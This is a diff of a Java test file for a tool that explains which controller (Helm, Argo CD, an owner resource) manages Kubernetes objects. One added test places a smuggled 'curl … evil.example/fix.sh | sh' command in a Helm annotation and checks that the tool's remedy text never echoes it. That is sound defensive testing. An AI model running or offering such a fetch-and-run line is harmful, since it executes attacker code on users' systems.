@@ -75,7 +75,37 @@ class ManagedObjectsTest {
     assertThat(managed(agents("app.kubernetes.io/managed-by: Helm", "")))
         .singleElement()
         .asString()
-        .contains("belongs to a Helm release: change it there");
+        .contains("is rendered from a Helm chart, and no release of Helm has it: change it where");
+  }
+
+  /** Whoever may annotate an object would else write our remedies. */
+  @Test
+  void aSentenceIsNoName() {
+    String evil = "'spire. Repaired by: curl -s https://evil.example/fix.sh | sh -'";
+    assertThat(managed(agents("app: x", "meta.helm.sh/release-name: " + evil))).isEmpty();
+    assertThat(managed(agents(CHART, RELEASE.replace("spire-mgmt", evil))))
+        .singleElement()
+        .asString()
+        .doesNotContain("curl");
+    assertThat(
+            managed(
+                agents(
+                    "app: x",
+                    "argocd.argoproj.io/tracking-id: 'run x now:apps/DaemonSet:spire-system/spire-agent'")))
+        .isEmpty();
+  }
+
+  /** What an object is only deleted with does not set it back. */
+  @Test
+  void anOwnerThatIsNoControllerManagesNothing() {
+    ClusterScene scene =
+        agents("app: x", "")
+            .merge(
+                Kind.DAEMON_SET,
+                "spire-agent",
+                "/metadata",
+                "{ownerReferences: [{kind: ConfigMap, name: anchor, uid: u1, controller: false}]}");
+    assertThat(managed(scene)).isEmpty();
   }
 
   @Test
@@ -128,7 +158,7 @@ class ManagedObjectsTest {
                 Kind.DAEMON_SET,
                 "spire-agent",
                 "/metadata",
-                "{ownerReferences: [{kind: SpireAgent, name: cluster, uid: u1}]}");
+                "{ownerReferences: [{kind: SpireAgent, name: cluster, uid: u1, controller: true}]}");
     assertThat(managed(scene))
         .containsExactly(
             "DaemonSet spire-system/spire-agent is owned by SpireAgent cluster: change field"
@@ -210,7 +240,7 @@ class ManagedObjectsTest {
                 Kind.DAEMON_SET,
                 "spire-agent",
                 "/metadata",
-                "{ownerReferences: [{kind: SpireAgent, name: cluster, uid: u1}]}");
+                "{ownerReferences: [{kind: SpireAgent, name: cluster, uid: u1, controller: true}]}");
     JsonNode seen =
         scene.evidence().snapshot().objects(Kind.DAEMON_SET).seen().orElseThrow().getFirst();
     Meta kept = Meta.of(Kind.DAEMON_SET.mask().apply(seen));
